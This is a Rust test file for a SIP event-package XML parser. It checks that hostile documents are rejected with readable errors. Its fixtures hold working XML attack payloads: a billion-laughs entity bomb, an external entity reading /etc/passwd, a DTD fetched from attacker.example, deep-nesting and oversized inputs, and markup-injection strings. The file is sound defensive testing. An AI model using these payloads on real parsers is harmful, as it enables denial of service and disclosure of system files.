//! Documents that somebody made to do harm. None is expanded, followed or kept; each is refused with a cause that an
//! operator can read.

use std::time::{Duration, Instant};

use farspeak_sip::event::package::BodyError;
use farspeak_sip::event::package::conference::ConferenceInfo;
use farspeak_sip::event::package::dialog::DialogInfo;
use farspeak_sip::event::package::presence::Presence;
use farspeak_sip::event::package::reg::{RegInfo, RegistrationTable};
use farspeak_sip::event::package::watcher::WatcherInfo;

const PIDF: &str = "urn:ietf:params:xml:ns:pidf";

/// The document as each of the packages reads it; all must agree that it is no good.
fn refuse(document: &[u8]) -> BodyError {
    let error = Presence::parse(document).unwrap_err();
    assert_eq!(RegInfo::parse(document), Err(error));
    assert_eq!(DialogInfo::parse(document), Err(error));
    assert_eq!(ConferenceInfo::parse(document), Err(error));
    assert_eq!(WatcherInfo::parse(document), Err(error));
    assert!(!error.to_string().is_empty());
    error
}

#[test]
fn refuses_a_billion_laughs() {
    let mut document = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE presence [\n<!ENTITY lol0 \"lol\">\n");
    for level in 1..10 {
        let previous = format!("&lol{};", level - 1).repeat(10);
        document += &format!("<!ENTITY lol{level} \"{previous}\">\n");
    }
    document += &format!("]>\n<presence xmlns=\"{PIDF}\"><note>&lol9;</note></presence>");
    assert_eq!(refuse(document.as_bytes()), BodyError::Doctype);
}

#[test]
fn refuses_to_fetch_anything() {
    let external = "<!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><p>&x;</p>";
    assert_eq!(refuse(external.as_bytes()), BodyError::Doctype);
    let parameter = "<!DOCTYPE p SYSTEM \"http://attacker.example/x.dtd\"><p/>";
    assert_eq!(refuse(parameter.as_bytes()), BodyError::Doctype);
    let late = format!("<presence xmlns=\"{PIDF}\"><!DOCTYPE p></presence>");
    assert_eq!(refuse(late.as_bytes()), BodyError::Doctype);
}

#[test]
fn refuses_deep_nesting() {
    let deep = format!("<presence xmlns=\"{PIDF}\">{}", "<a>".repeat(20_000));
    assert_eq!(refuse(deep.as_bytes()), BodyError::TooDeep);
}

#[test]
fn refuses_sidebars_within_sidebars_without_end() {
    let level = "<sidebars-by-val><entry entity='x'>";
    let document = format!(
        "<conference-info xmlns='urn:ietf:params:xml:ns:conference-info' entity='x' version='1'>{}",
        level.repeat(5000)
    );
    assert_eq!(ConferenceInfo::parse(document.as_bytes()), Err(BodyError::TooDeep));
}

#[test]
fn refuses_huge_attributes_and_documents() {
    let attribute = format!("<presence xmlns=\"{PIDF}\" entity=\"{}\"/>", "x".repeat(100_000));
    assert_eq!(refuse(attribute.as_bytes()), BodyError::ValueTooLong);
    let namespace = format!("<presence xmlns=\"{}\"/>", "x".repeat(100_000));
    assert_eq!(refuse(namespace.as_bytes()), BodyError::ValueTooLong);
    let many: String = (0..10_000).map(|number| format!(" a{number}=\"\"")).collect();
    assert_eq!(refuse(format!("<presence xmlns=\"{PIDF}\"{many}/>").as_bytes()), BodyError::TooManyAttributes);
    let elements = format!("<presence xmlns=\"{PIDF}\">{}</presence>", "<x/>".repeat(60_000));
    assert_eq!(refuse(elements.as_bytes()), BodyError::TooManyElements);
    assert_eq!(refuse(&vec![b' '; 300_000]), BodyError::TooLarge);
    assert_eq!(refuse(&vec![b' '; 300_000]).status().code(), 413);
}

#[test]
fn refuses_bytes_that_are_no_text() {
    assert_eq!(refuse(b"<presence>\xc3\x28</presence>"), BodyError::NotUtf8);
    assert_eq!(refuse(b"\xfe\xff\0<\0a\0/\0>"), BodyError::NotUtf8);
    assert!(matches!(refuse(b"<presence>\0</presence>"), BodyError::Malformed { .. }));
    assert!(matches!(refuse(b"<presence>&#0;</presence>"), BodyError::Malformed { .. }));
    assert_eq!(refuse(b"<presence>&#0;</presence>").status().code(), 400);
}

#[test]
fn refuses_the_right_name_in_the_wrong_namespace() {
    for document in [
        "<presence/>".to_owned(),
        "<presence xmlns='urn:x'/>".to_owned(),
        format!("<x:presence xmlns='{PIDF}' xmlns:x='urn:x'/>"),
        format!("<p xmlns='{PIDF}'/>"),
    ] {
        assert_eq!(Presence::parse(document.as_bytes()), Err(BodyError::Root { expected: "presence" }), "{document}");
    }
}

#[test]
fn never_takes_an_element_of_another_namespace_for_its_own() {
    let document = format!(
        "<presence xmlns='{PIDF}' xmlns:e='urn:evil' entity='sip:a@b'>\
         <e:tuple id='1'><e:status><e:basic>open</e:basic></e:status></e:tuple>\
         <tuple id='2' e:id='3' xmlns='urn:evil'><status xmlns='{PIDF}'><basic>open</basic></status></tuple>\
         <tuple id='4'><status><e:basic>open</e:basic></status><e:contact>sip:evil</e:contact></tuple></presence>"
    );
    let presence = Presence::parse(document.as_bytes()).unwrap();
    let [tuple] = presence.tuples.as_slice() else { panic!("one tuple: {presence:?}") };
    assert_eq!((tuple.id.as_str(), tuple.basic, tuple.contact.as_ref()), ("4", None, None));
    assert_eq!(presence.extensions.len(), 2);
    assert_eq!(Presence::parse(&presence.write()).unwrap(), presence);
}

#[test]
fn never_writes_what_a_value_says_as_markup() {
    let evil = "\"/><tuple id='9'/><!--]]>&lt;\u{0}";
    let mut presence = Presence::new(evil);
    presence.notes.push(farspeak_sip::event::package::presence::Note::new(evil));
    let read = Presence::parse(&presence.write()).unwrap();
    assert!(read.tuples.is_empty());
    assert_eq!(read.notes[0].text, evil.replace('\u{0}', "\u{fffd}"));
}

#[test]
fn long_namespaces_are_not_multiplied() {
    // A long namespace name and thousands of elements in it share one string.
    let name = "x".repeat(4000);
    let document = format!("<presence xmlns='{PIDF}' xmlns:e='{name}'>{}</presence>", "<e:x/>".repeat(8000));
    let presence = Presence::parse(document.as_bytes()).unwrap();
    let first = &presence.extensions[0].namespace;
    assert!(presence.extensions.iter().all(|it| std::sync::Arc::ptr_eq(&it.namespace, first)));
    assert!(presence.write().len() < 2 * document.len());
}

#[test]
fn the_worst_documents_take_little_time() {
    let begin = Instant::now();
    let contacts: String =
        (0..3500).map(|id| format!("<contact id='{id:04}' state='active' event='created'><uri/></contact>")).collect();
    let document = |version, state| {
        format!(
            "<reginfo xmlns='urn:ietf:params:xml:ns:reginfo' version='{version}' state='{state}'>\
             <registration aor='' id='' state='active'>{contacts}</registration></reginfo>"
        )
    };
    let mut table = RegistrationTable::default();
    for (version, state) in [(0, "full"), (1, "partial"), (2, "partial")] {
        let _ = table.apply(RegInfo::parse(document(version, state).as_bytes()).unwrap());
    }
    let declarations: String = (0..7000).map(|_| "<e:x xmlns:e='urn:e' e:a='' b=''/>").collect();
    assert!(Presence::parse(format!("<presence xmlns='{PIDF}'>{declarations}</presence>").as_bytes()).is_ok());
    let references = "&#x41;".repeat(40_000);
    assert!(
        Presence::parse(format!("<presence xmlns='{PIDF}'><note>{references}</note></presence>").as_bytes()).is_ok()
    );
    // Generous for an unoptimised build on a busy machine; quadratic behaviour takes minutes.
    assert!(begin.elapsed() < Duration::from_secs(20), "{:?}", begin.elapsed());
}
